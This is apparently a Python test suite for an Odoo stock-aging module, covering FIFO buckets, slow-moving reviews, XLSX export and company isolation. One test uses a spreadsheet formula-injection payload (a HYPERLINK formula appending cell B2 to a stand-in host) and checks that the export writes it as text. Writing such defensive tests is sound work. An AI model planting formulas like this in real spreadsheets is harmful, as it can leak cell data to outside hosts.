import base64
import io

import openpyxl
from odoo.exceptions import UserError
from odoo.tests import new_test_user, tagged

from .common import TODAY, LifecycleCommon


@tagged("post_install", "-at_install")
class TestAging(LifecycleCommon):
    def test_buckets_equal_independent_fifo(self):
        self.run_aging()
        for product in (self.fast, self.mixed, self.old, self.no_cost):
            expected = self.fifo_buckets(product)
            rows = self.report_rows(product)
            got = [0.0] * len(expected)
            for row in rows:
                got[list(self.buckets).index(row.bucket_id)] += row.quantity
            self.assertEqual(
                [round(x, 6) for x in got], [round(x, 6) for x in expected], product.name
            )
            cost = product.with_company(self.company).standard_price
            for row in rows:
                self.assertAlmostEqual(row.value, round(row.quantity * cost, 2), places=2)
            self.assertAlmostEqual(self.profile(product).aging_qty, sum(expected))
        # The generated history spreads the stock over more than one bucket.
        self.assertGreater(len(self.report_rows(self.fast).bucket_id), 1)

    def test_no_receipt_history_goes_to_oldest_bucket_with_a_note(self):
        self.run_aging()
        rows = self.report_rows(self.no_history)
        self.assertEqual(rows.bucket_id, self.buckets[-1])
        self.assertTrue(rows.unknown_origin)
        self.assertEqual(rows.quantity, 9.0)
        profile = self.profile(self.no_history)
        self.assertEqual(profile.unknown_origin_qty, 9.0)
        self.assertIn("without receipt history", profile.aging_note)
        self.assertEqual(profile.days_without_demand, -1)

    def test_zero_cost_is_valued_zero_with_a_note(self):
        self.run_aging()
        profile = self.profile(self.no_cost)
        self.assertEqual(profile.aging_value, 0.0)
        self.assertIn("no cost", profile.aging_note)
        self.assertEqual(profile.stock_age_days, 100.0)
        self.assertEqual(set(self.report_rows(self.no_cost).mapped("value")), {0.0})

    def test_slow_moving_review_with_owner_and_rerun(self):
        self.run_aging()
        old = self.profile(self.old)
        self.assertTrue(old.is_slow_moving)
        review = self.Exception.sudo().search(
            [("profile_id", "=", old.id), ("exception_type", "=", "slow_moving")]
        )
        self.assertEqual(len(review), 1)
        self.assertTrue(review.user_id, "a review has an owner")
        self.assertEqual(review.state, "new")
        disposal = self.Exception.sudo().search(
            [("profile_id", "=", old.id), ("exception_type", "=", "disposal_review")]
        )
        self.assertEqual(len(disposal), 1, "obsolete stock raises a disposal review")
        # The stage as the user reads it, not its key.
        self.assertIn("in stage Obsolete with", disposal.message)
        # The fast mover was delivered recently; the decline product not for 130+ days.
        self.assertFalse(self.profile(self.fast).is_slow_moving)
        self.assertTrue(self.profile(self.mixed).is_slow_moving)
        self.assertGreaterEqual(self.profile(self.mixed).days_without_demand, 130)
        count = self.Report.sudo().search_count([("company_id", "=", self.company.id)])
        self.run_aging()
        self.assertEqual(
            self.Report.sudo().search_count([("company_id", "=", self.company.id)]), count
        )
        self.assertEqual(
            self.Exception.sudo().search_count(
                [("profile_id", "=", old.id), ("exception_type", "=", "slow_moving")]
            ),
            1,
            "a rerun does not duplicate the review",
        )
        # A customer delivery today clears the review.
        self.moves.append((self.old, -1.0, TODAY))
        self.insert_moves([(self.old, -1.0, TODAY)])
        self.run_aging()
        self.assertFalse(self.profile(self.old).is_slow_moving)
        self.assertEqual(review.state, "done")

    def test_coverage_and_run_out_date(self):
        self.run_aging()
        profile = self.profile(self.fast)
        qty = profile.aging_qty
        self.assertGreater(qty, 0)
        self.assertAlmostEqual(profile.onhand_coverage_days, qty / 2.0, places=2)
        self.assertTrue(profile.run_out_date > TODAY)

    def test_export_xlsx(self):
        self.run_aging()
        rows = self.Report.sudo().search([("company_id", "=", self.company.id)])
        wizard = self.env["stock.aging.export"].create({})
        action = wizard._export(rows)
        self.assertIn("/web/content/", action["url"])
        self.assertTrue(wizard.file_data)
        self.assertTrue(wizard.file_name.endswith(".xlsx"))

    def test_export_writes_formula_like_names_as_text(self):
        evil = '=HYPERLINK("http://x"&B2,"y")'
        self.fast.name = evil
        self.run_aging()
        rows = self.Report.sudo().search(
            [("company_id", "=", self.company.id), ("product_id", "=", self.fast.id)]
        )
        self.assertTrue(rows)
        wizard = self.env["stock.aging.export"].create({})
        wizard._export(rows)
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        hits = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
        self.assertTrue(hits)
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", f"{cell.coordinate}: {cell.value}")
        for cell in hits:
            self.assertEqual(cell.data_type, "s")
            self.assertIn(evil, cell.value)

    def test_other_company_does_not_see_the_aging(self):
        self.run_aging()
        other = self.env["res.company"].create({"name": "Lifecycle Other Co"})
        outsider = new_test_user(
            self.env,
            login="life_outsider",
            groups="stock_segment.group_planning_user",
            company_id=other.id,
            company_ids=[(6, 0, [other.id])],
        )
        self.assertTrue(self.Report.with_user(self.buyer).search([]))
        self.assertFalse(
            self.Report.with_user(outsider).search([("company_id", "=", self.company.id)])
        )

    def test_bad_bucket_settings_are_explained(self):
        self.env["stock.aging.bucket"].create(
            {"name": "Only bucket", "max_age_days": 30, "company_id": self.company.id}
        )
        with self.assertRaisesRegex(UserError, "open-ended bucket"):
            self.run_aging()

    def test_export_holds_own_companies_only(self):
        """The aging export of a user of one company holds that company's rows only, and
        asking for another company is refused."""
        self.run_aging()
        other = self.env["res.company"].create({"name": "Lifecycle Export Other Co"})
        wh_other = self.env["stock.warehouse"].search([("company_id", "=", other.id)], limit=1)
        secret = self.env["product.product"].create(
            {"name": "Other company secret", "type": "consu", "company_id": other.id}
        )
        self.Report.sudo().create(
            {
                "snapshot_date": TODAY,
                "product_id": secret.id,
                "warehouse_id": wh_other.id,
                "bucket_id": self.env["stock.aging.bucket"]._buckets_for(other)[0][:1].id,
                "company_id": other.id,
                "quantity": 5.0,
            }
        )
        wizard = self.env["stock.aging.export"].with_user(self.buyer).create({})
        wizard.action_export()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
        texts = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
        self.assertIn(self.fast.display_name, texts)
        self.assertNotIn(secret.display_name, texts)
        self.assertNotIn(wh_other.display_name, texts)
        with self.assertRaises(UserError):
            self.env["stock.aging.export"].with_user(self.buyer).with_context(
                allowed_company_ids=[other.id]
            ).create({}).action_export()
